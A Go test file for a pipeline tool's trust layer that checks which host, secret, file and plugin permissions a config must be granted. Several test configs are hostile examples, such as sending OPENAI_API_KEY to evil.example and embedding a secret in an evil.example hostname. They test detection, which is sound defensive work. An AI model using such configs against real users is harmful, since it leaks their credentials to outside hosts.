package trust

import (
	"cmp"
	"context"
	"crypto/sha256"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/racflow/racflow/engine/internal/enginetest"
	"github.com/racflow/racflow/engine/internal/file/pipeline"
	"github.com/racflow/racflow/engine/internal/process/program"
	"github.com/racflow/racflow/sdk"
)

// TestGrants grants wants and files to folders; one of them has a broken record.
func TestGrants(t *testing.T) {
	g := Grants{filepath.Join(t.TempDir(), "trust")}
	never := func([]byte) bool { return false }
	host, key, start := Want{Kind: Hosts, Text: "sends to h"}, Want{Kind: Secrets, Text: "gives h the secret K"}, Want{Kind: Plugins, Text: "starts p"}
	free := Want{Kind: Hosts, Text: "sends to f", Free: true}
	r := Request{Folder: "/a", Content: []byte("file"), Wants: []Want{host, free, key, start}}
	left := func(r Request, shipped func([]byte) bool, want ...Want) {
		t.Helper()
		got, err := g.Left(r, shipped)
		if err != nil || len(got)+len(want) > 0 && !reflect.DeepEqual(got, want) {
			t.Errorf("left is %v, %v; want %v", got, err, want)
		}
	}
	left(r, never, host, key, start)
	left(r, func(content []byte) bool { return string(content) == "file" }, start)
	data, linked := Want{Kind: Files, Text: "reads /outside/rows"}, Want{Kind: Files, Text: "reads /outside/diary", link: true}
	reads := Request{Folder: "/a", Content: []byte("file"), Wants: []Want{data, linked, host}}
	left(reads, never, data, linked, host)
	left(reads, func(content []byte) bool { return string(content) == "file" }, data, linked)
	for _, err := range []error{g.Grant("/a", []Want{host}), g.Grant("/a", []Want{start, host})} {
		if err != nil {
			t.Fatal(err)
		}
	}
	left(r, never, key)
	of := func(value string) Request {
		return Request{Folder: "/c", Wants: []Want{{Kind: Hosts, Text: "sends to the host of K", Value: value}}}
	}
	if err := g.Grant("/c", of("1").Wants); err != nil {
		t.Fatal(err)
	}
	left(of("1"), never)
	left(of("2"), never, of("2").Wants...)
	other := r
	other.Folder = "/b"
	left(other, never, host, key, start)
	path := filepath.Join(t.TempDir(), "p.hcl")
	if err := g.Written(path, []byte("written")); err != nil {
		t.Fatal(err)
	}
	written := Request{Folder: filepath.Dir(path), Content: []byte("written"), Wants: r.Wants}
	left(written, never, start)
	reads.Folder, reads.Content = written.Folder, written.Content
	left(reads, never, linked)
	written.Content = []byte("written, and changed")
	left(written, never, host, key, start)

	if err := os.WriteFile(g.path("/a"), []byte(`{"folder": "/a", "wants": [`), 0o600); err != nil {
		t.Fatal(err)
	}
	if got, err := g.Left(r, never); err == nil || len(got) != 3 {
		t.Errorf("of a broken record, %v is left, %v", got, err)
	}
	if err := g.Grant("/a", []Want{key}); err != nil {
		t.Fatal(err)
	}
	left(r, never, host, start)
	if info, err := os.Stat(g.path("/a")); err != nil || info.Mode().Perm() != 0o600 {
		t.Errorf("the record is %v, %v", info, err)
	}
}

// catalog offers a third-party voter, in addition to the stages of enginetest.
type catalog struct {
	enginetest.Catalog
	voter     sdk.Stage
	program   program.Program
	validated *[]string // configs that the program received
}

func (c catalog) Stage(kind sdk.Kind, use string) (sdk.Stage, bool) {
	if use == "mine/voter" {
		return c.voter, true
	}
	return c.Catalog.Stage(kind, use)
}

func (c catalog) Program(use string) *program.Program {
	if use == "mine/voter" {
		return &c.program
	}
	return nil
}

func (c catalog) Validate(kind sdk.Kind, use string, config []byte) error {
	if use == "mine/voter" {
		*c.validated = append(*c.validated, string(config))
		return nil
	}
	stage, _ := c.Stage(kind, use)
	return stage.Validate(config)
}

// TestPluginWants has a file start a plugin. The plugin's access is listed, and it gets no config to
// check before that is granted.
func TestPluginWants(t *testing.T) {
	dir := t.TempDir()
	var validated []string
	voter := sdk.SampleStage("voter", "", func(context.Context, sdk.Setup, struct {
		Key string `config:"key,secret"`
	}) (sdk.Sampler, error) {
		return nil, nil
	}, sdk.Network())
	elect := sdk.ElectStage("majority", "", func(context.Context, sdk.Setup, struct{}) (sdk.Elector, error) { return nil, nil })
	c := catalog{Catalog: enginetest.Catalog{elect}, voter: voter, validated: &validated, program: program.Program{
		Name: "mine", Version: "1.2.0", Hash: "sha256:0123456789abcdef", Origin: program.Locked,
		Allow: program.Allow{Hosts: []string{"api.example:443"}, Read: []string{dir + "/models", "/srv/models"}, Write: []string{dir + "/out"}, Unconfined: true},
	}}
	path := filepath.Join(dir, "p.hcl")
	text := `
required_plugins { mine = { source = "./releases" } }
pipeline "p" {
  sample "mine" {
    use = "mine/voter"
    config { key = secret("KEY") }
  }
  elect "e" { use = "majority" }
}`
	if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	load := func(trusted bool) []Want {
		f, diags := pipeline.Load(t.Context(), path, pipeline.Options{
			Catalog: c, Dir: dir, Getenv: func(string) (string, bool) { return "hush-hush", true }, Trusted: func(*pipeline.File) bool { return trusted },
		})
		if diags.HasErrors() {
			t.Fatal(diags)
		}
		return Wants(f)
	}
	want := []Want{
		{Kind: Secrets, Text: "gives the plugin mine the secret KEY"},
		{Kind: Plugins, Text: "starts the plugin mine of ./releases, version 1.2.0, program 0123456789ab"},
		{Kind: Plugins, Text: "lets the plugin mine do whatever you can, without confinement"},
		{Kind: Plugins, Text: "lets the plugin mine reach api.example:443"},
		{Kind: Plugins, Text: "lets the plugin mine read /srv/models"},
		{Kind: Plugins, Text: "lets the plugin mine change " + dir + "/out"},
	}
	if got := load(false); !reflect.DeepEqual(got, want) {
		t.Errorf("it wants %v, want %v", got, want)
	}
	if len(validated) != 0 {
		t.Errorf("before it was granted, the plugin got %q", validated)
	}
	c.program.Origin = program.Given // a person gave the program: its author determines its content
	if got := load(true); !reflect.DeepEqual(got, slices.Concat(want[:1], want[2:])) {
		t.Errorf("it wants %v", got)
	}
	if !slices.Equal(validated, []string{`{"key":"hush-hush"}`}) {
		t.Errorf("the plugin got %q", validated)
	}
}

func TestIsTyped(t *testing.T) {
	https, port := host{scheme: "https", host: "api.example.com"}, host{scheme: "https", host: "api.example.com:8443"}
	http, bare := host{scheme: "http", host: "api.example.com"}, host{scheme: "http", host: "gpu:8080"}
	for _, c := range []struct {
		text string
		h    host
		want bool
	}{
		{"https://api.example.com/v1", https, true}, {"https://api.example.com:443/v1", https, true}, {"api.example.com", https, true},
		{"a=https://api.example.com,b", https, true}, {`{ url = "https://api.example.com" }`, https, true}, {"HTTPS://API.example.com", https, true},
		{"https://api.example.com.au", https, false}, {"https://my-api.example.com", https, false}, {"https://api.example.com:8443", https, false},
		{"https://x@api.example.com", https, false}, {"https://api.example.com@evil", https, false}, {"http://api.example.com", https, false}, {"", https, false},
		{"https://api.example.com:8443", port, true}, {"api.example.com:8443", port, true}, {"https://api.example.com", port, false},
		{"http://api.example.com", http, true}, {"http://api.example.com:80/v1", http, true}, {"api.example.com", http, false}, {"https://api.example.com", http, false},
		{"gpu:8080", bare, true}, {"https://gpu:8080", bare, false},
	} {
		if got := isTyped(c.text, c.h); got != c.want {
			t.Errorf("%q names %s: %v", c.text, c.h, got)
		}
	}
}

// service is the config of a built-in voter that calls services.
type service struct {
	URL  string            `config:"url" default:"https://api.openai.com/v1"`
	More map[string]string `config:"more"`
	Key  string            `config:"key,secret"`
	Keys map[string]string `config:"keys,secret"`
	File sdk.Path          `config:"file"`

	Headers map[string]string `config:"headers,secret"`
	Body    string            `config:"body"`
}

// stages returns a whole pipeline of built-in stages.
func stages() enginetest.Catalog {
	type none = struct{}
	return enginetest.Catalog{
		sdk.EmbedStage("words", "", func(context.Context, sdk.Setup, none) (sdk.Embedder, error) { return nil, nil }),
		sdk.StoreStage("kept", "", func(context.Context, sdk.Setup, struct {
			Path sdk.Path `config:"path"`
		}) (sdk.Store, error) {
			return nil, nil
		}),
		sdk.SampleStage("asks", "", func(context.Context, sdk.Setup, service) (sdk.Sampler, error) { return nil, nil }, sdk.Network(),
			sdk.Addresses(func(c service) map[string]string {
				all := map[string]string{"": c.URL}
				maps.Copy(all, c.More)
				return all
			})),
		sdk.SampleStage("mute", "", func(context.Context, sdk.Setup, struct {
			Key string `config:"key"`
		}) (sdk.Sampler, error) {
			return nil, nil
		}, sdk.Network()),
		sdk.ElectStage("majority", "", func(context.Context, sdk.Setup, none) (sdk.Elector, error) { return nil, nil }),
	}
}

// TestWants covers everything that files with built-in stages can want.
func TestWants(t *testing.T) {
	dir, outside := t.TempDir(), t.TempDir()
	beside := "../" + filepath.Base(outside) + "/diary" // short: a long expression is cut in messages
	for _, path := range []string{dir + "/rows.tsv", outside + "/rows.tsv", outside + "/diary"} {
		if err := os.WriteFile(path, []byte("text\tlabel\na\tb\n"), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Mkdir(outside+"/sub", 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(outside+"/diary", dir+"/link.tsv"); err != nil {
		t.Fatal(err)
	}
	environment := map[string]string{
		"OPENAI_API_KEY": "key-of-openai", "OTHER_KEY": "another-key", "CITY": "somewhere", "RACFLOW_X": "x", "SERVER": "http://said.example:8080/v1", "RACFLOW_KEY": "own-key", "RACFLOW_OTHER": "own",
		"OPENAI_BASE_URL": "http://said.example:8080/v1", "ANTHROPIC_BASE_URL": "https://said.example/v1?key=hush", "RACFLOW_SERVE_TOKENS": "0123456789abcdef",
	}
	environment["OUTSIDE"], environment["RACFLOW_OUTSIDE"] = outside, outside
	const (
		ownKey = `key = secret("OPENAI_API_KEY")`
		said   = "url = env(\"OPENAI_BASE_URL\")\n"
		clear  = " without encryption"
	)
	sends := func(host string, free bool) Want { return Want{Kind: Hosts, Text: "sends to " + host, Free: free} }
	gives := func(host, name string, free bool) Want {
		return Want{Kind: Secrets, Text: "gives " + host + " the secret " + name, Free: free}
	}
	reads := func(name string) Want {
		return Want{Kind: Secrets, Text: "reads the variable " + name + " of the environment"}
	}
	of := func(value string, w Want) Want {
		w.Value = fmt.Sprintf("%x", sha256.Sum256([]byte(value)))
		return w
	}
	own := []Want{sends("api.openai.com", true), gives("api.openai.com", "OPENAI_API_KEY", true)}
	asked := []Want{sends("api.openai.com", false), gives("api.openai.com", "OPENAI_API_KEY", true)}
	for name, c := range map[string]struct {
		config string // of the voter
		more   string // blocks in the pipeline
		source string
		store  string
		vars   map[string]string
		want   []Want
	}{
		"nothing":                 {more: `enabled = false`},
		"OpenAI's key":            {config: `key = secret("OPENAI_API_KEY")`, want: []Want{{Kind: Hosts, Text: "sends to api.openai.com", Free: true}, {Kind: Secrets, Text: "gives api.openai.com the secret OPENAI_API_KEY", Free: true}}},
		"no key":                  {config: `key = secret("NO_KEY", "")`, want: []Want{{Kind: Hosts, Text: "sends to api.openai.com"}}},
		"a key of the file":       {config: `key = "sk-of-the-author"`, want: []Want{{Kind: Hosts, Text: "sends to api.openai.com"}}},
		"another key":             {config: `key = secret("OTHER_KEY")`, want: []Want{{Kind: Hosts, Text: "sends to api.openai.com"}, {Kind: Secrets, Text: "gives api.openai.com the secret OTHER_KEY"}}},
		"OpenAI's key, astray":    {config: "url = \"https://evil.example\"\nkey = secret(\"OPENAI_API_KEY\")", want: []Want{{Kind: Hosts, Text: "sends to evil.example"}, {Kind: Secrets, Text: "gives evil.example the secret OPENAI_API_KEY"}}},
		"a host that was said":    {config: said + ownKey, want: []Want{sends("http://said.example:8080"+clear, true), gives("http://said.example:8080", "OPENAI_API_KEY", true)}},
		"its other secret":        {config: said + `key = secret("OTHER_KEY")`, want: []Want{sends("http://said.example:8080"+clear, true), gives("http://said.example:8080", "OTHER_KEY", false)}},
		"racflow's own":           {config: said + `key = secret("RACFLOW_OTHER")`, want: []Want{sends("http://said.example:8080"+clear, true), gives("http://said.example:8080", "RACFLOW_OTHER", true)}},
		"racflow's own key":       {config: said + `key = secret("RACFLOW_KEY")`, want: []Want{sends("http://said.example:8080"+clear, true), gives("http://said.example:8080", "RACFLOW_KEY", false)}},
		"tokens of serve":         {config: ownKey + "\nbody = env(\"RACFLOW_SERVE_TOKENS\")", want: slices.Concat(asked, []Want{reads("RACFLOW_SERVE_TOKENS")})},
		"a part of what was said": {config: `url = replace(env("OPENAI_BASE_URL"), ":8080", "")` + "\n" + ownKey, want: []Want{sends("http://said.example"+clear, false), gives("http://said.example", "OPENAI_API_KEY", false)}},
		"more than what was said": {config: `url = "${env("OPENAI_BASE_URL")}/more"` + "\n" + ownKey, want: []Want{sends("http://said.example:8080"+clear, false), gives("http://said.example:8080", "OPENAI_API_KEY", false)}},
		"an address with a key": {config: `url = env("ANTHROPIC_BASE_URL")`, want: []Want{
			reads("ANTHROPIC_BASE_URL"), of("said.example", sends(`the host that the variable ANTHROPIC_BASE_URL of the environment gives (url = env("ANTHROPIC_BASE_URL"))`, false)),
		}},
		"a host of the environment": {config: `url = env("SERVER")` + "\n" + ownKey, want: []Want{
			reads("SERVER"), of("http://said.example:8080", sends(`the host that the variable SERVER of the environment gives (url = env("SERVER"))`, false)),
			of("http://said.example:8080", gives(`the host that the variable SERVER of the environment gives (url = env("SERVER"))`, "OPENAI_API_KEY", false)),
		}},
		"a host of a secret": {config: `url = "https://${secret("OTHER_KEY")}.evil.example"`, want: []Want{
			of("another-key.evil.example", sends(`the host that the secret OTHER_KEY gives (url = "https://${secret("OTHER_KEY")}.evil.example")`, false)),
			of("another-key.evil.example", gives(`the host that the secret OTHER_KEY gives (url = "https://${secret("OTHER_KEY")}.evil.example")`, "OTHER_KEY", false)),
		}},
		"OpenAI's key, in clear":             {config: `url = "http://api.openai.com/v1"` + "\n" + ownKey, want: []Want{sends("http://api.openai.com"+clear, false), gives("http://api.openai.com", "OPENAI_API_KEY", false)}},
		"OpenAI's key, another port":         {config: `url = "https://api.openai.com:8443/v1"` + "\n" + ownKey, want: []Want{sends("api.openai.com:8443", false), gives("api.openai.com:8443", "OPENAI_API_KEY", false)}},
		"OpenAI's host, written otherwise":   {config: `url = "https://API.OpenAI.com:443/v1"` + "\n" + ownKey, want: own},
		"another account by a header":        {config: ownKey + "\nheaders = { Authorization = \"Bearer of another account\" }", want: asked},
		"a header from a secret":             {config: ownKey + "\nheaders = { X = secret(\"OTHER_KEY\") }", want: slices.Concat(asked, []Want{gives("api.openai.com", "OTHER_KEY", false)})},
		"another account by the body":        {config: ownKey + "\nbody = \"{}\"", want: asked},
		"an empty header":                    {config: ownKey + "\nheaders = {}\nbody = \"\"", want: own},
		"a header that was said":             {config: ownKey + "\nheaders = { X = var.rows }", vars: map[string]string{"rows": "my-account"}, want: own},
		"another account by a key":           {config: `key = secret("OPENAI_API_KEY") == "x" ? "" : "sk-of-the-author"`, want: asked},
		"another account of another service": {config: ownKey + "\nmore = { b = \"https://api.openai.com/v1\" }\nkeys = { b = \"sk-of-the-author\" }", want: asked},
		"a host that was typed":              {config: "url = var.rows\n" + ownKey, vars: map[string]string{"rows": "https://typed.example/v1"}, want: []Want{sends("typed.example", true), gives("typed.example", "OPENAI_API_KEY", true)}},
		"typed, but for another argument":    {config: "url = \"https://typed.example/v1\"\n" + ownKey, vars: map[string]string{"rows": "https://typed.example/v1"}, want: []Want{sends("typed.example", false), gives("typed.example", "OPENAI_API_KEY", false)}},
		"typed, in clear":                    {config: "url = replace(var.rows, \"https:\", \"http:\")\n" + ownKey, vars: map[string]string{"rows": "https://typed.example/v1"}, want: []Want{sends("http://typed.example"+clear, false), gives("http://typed.example", "OPENAI_API_KEY", false)}},
		"typed, and an account":              {config: "url = var.rows\nkey = \"sk-of-the-author\"", vars: map[string]string{"rows": "https://typed.example/v1"}, want: []Want{sends("typed.example", false)}},
		"typed, and any key, here":           {config: "url = var.rows\nkey = \"none\"", vars: map[string]string{"rows": "http://127.0.0.1:9/v1"}, want: []Want{sends("127.0.0.1:9", true)}},
		"typed, and a header, here":          {config: "url = var.rows\nheaders = { X = \"1\" }", vars: map[string]string{"rows": "http://127.0.0.1:9/v1"}, want: []Want{sends("127.0.0.1:9", false)}},
		"each its own": {config: "more = { b = \"https://b.example\" }\nkeys = { b = secret(\"OTHER_KEY\") }\nkey = secret(\"OPENAI_API_KEY\")", want: []Want{
			{Kind: Hosts, Text: "sends to api.openai.com", Free: true}, {Kind: Hosts, Text: "sends to b.example"}, {Kind: Secrets, Text: "gives api.openai.com the secret OPENAI_API_KEY", Free: true}, {Kind: Secrets, Text: "gives b.example the secret OTHER_KEY"},
		}},
		"a variable, two reads": {config: "key = secret(\"OPENAI_API_KEY\")\nfile = file(env(\"RACFLOW_Y\", \"" + beside + "\")) == env(\"CITY\") ? \"x\" : \"/rows.tsv\"", want: []Want{
			own[0], reads("CITY"), own[1], {Kind: Files, Text: "reads " + outside + "/diary"},
			of("/rows.tsv", Want{Kind: Files, Text: "reads the file that " + outside + "/diary and the variable CITY of the environment gives (file(env(\"RACFLOW_Y\", \"" + beside + "\")) == env(\"CITY\") ? \"x\" : \"/rows.tsv\")"}),
		}},
		"rows outside":                       {more: `enabled = false`, source: outside + "/rows.tsv", want: []Want{{Kind: Files, Text: "reads " + outside + "/rows.tsv"}}},
		"rows by a link":                     {more: `enabled = false`, source: "*.tsv", want: []Want{{Kind: Files, Text: "reads " + outside + "/diary", link: true}}},
		"rows that were said":                {more: `enabled = false`, source: "${var.rows}", vars: map[string]string{"rows": outside + "/rows.tsv"}, want: []Want{{Kind: Files, Text: "reads " + outside + "/rows.tsv", Free: true}}},
		"in a folder that was said":          {more: `enabled = false`, source: "${var.rows}/rows.tsv", vars: map[string]string{"rows": outside}, want: []Want{{Kind: Files, Text: "reads " + outside + "/rows.tsv", Free: true}}},
		"beside a folder that was said":      {more: `enabled = false`, source: "${var.rows}/../rows.tsv", vars: map[string]string{"rows": outside + "/sub"}, want: []Want{{Kind: Files, Text: "reads " + outside + "/rows.tsv"}}},
		"a slash that was said":              {more: `enabled = false`, source: "${var.rows}" + strings.TrimPrefix(outside, "/") + "/rows.tsv", vars: map[string]string{"rows": "/"}, want: []Want{{Kind: Files, Text: "reads " + outside + "/rows.tsv"}}},
		"a folder of racflow's own variable": {more: `enabled = false`, source: "${env(\"RACFLOW_OUTSIDE\")}/rows.tsv", want: []Want{{Kind: Files, Text: "reads " + outside + "/rows.tsv"}}},
		"said, but not for this":             {more: `enabled = false`, source: outside + "/rows.tsv", vars: map[string]string{"rows": outside + "/rows.tsv"}, want: []Want{{Kind: Files, Text: "reads " + outside + "/rows.tsv"}}},
		"rows that the environment says": {more: `enabled = false`, source: "${env(\"OUTSIDE\")}/rows.tsv", want: []Want{
			reads("OUTSIDE"), of(outside+"/rows.tsv", Want{Kind: Files, Text: `reads the file that the variable OUTSIDE of the environment gives ("${env("OUTSIDE")}/rows.tsv")`}),
		}},
		"a store outside":        {more: `enabled = false`, store: `config { path = "` + outside + `/kept" }`, want: []Want{{Kind: Files, Text: "changes " + outside + "/kept"}}},
		"services without names": {more: `use = "mute"`, config: `key = secret("OTHER_KEY")`, want: []Want{{Kind: Hosts, Text: "calls services that the stage mute does not name"}, {Kind: Secrets, Text: "gives the stage mute the secret OTHER_KEY"}}},
	} {
		t.Run(name, func(t *testing.T) {
			use := `use = "asks"`
			if strings.HasPrefix(c.more, "use") {
				use = ""
			}
			text := fmt.Sprintf(`
variable "rows" { default = "x" }
knowledge "k" {
  source { path = "%s" }
  embed { use = "words" }
  store {
    use = "kept"
    %s
  }
}
pipeline "p" {
  retrieve "r" { from = knowledge.k }
  sample "other" {
    use = "asks"
    enabled = false
    config { key = secret("UNSET") }
  }
  sample "s" {
    %s
    %s
    config {
      %s
    }
  }
}`, cmp.Or(c.source, "rows.tsv"), c.store, use, c.more, c.config)
			path := filepath.Join(dir, "p.hcl")
			if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
				t.Fatal(err)
			}
			f, diags := pipeline.Load(t.Context(), path, pipeline.Options{Catalog: stages(), Dir: dir, Vars: c.vars, Getenv: func(name string) (string, bool) {
				value, ok := environment[name]
				return value, ok
			}})
			if diags.HasErrors() {
				t.Fatal(diags)
			}
			got := Wants(f)
			slices.SortFunc(got, func(a, b Want) int {
				return cmp.Or(slices.Index(Kinds, a.Kind)-slices.Index(Kinds, b.Kind), strings.Compare(a.Text, b.Text))
			})
			slices.SortFunc(c.want, func(a, b Want) int {
				return cmp.Or(slices.Index(Kinds, a.Kind)-slices.Index(Kinds, b.Kind), strings.Compare(a.Text, b.Text))
			})
			if len(got)+len(c.want) > 0 && !reflect.DeepEqual(got, c.want) {
				t.Errorf("it wants %+v, want %+v", got, c.want)
			}
		})
	}
}
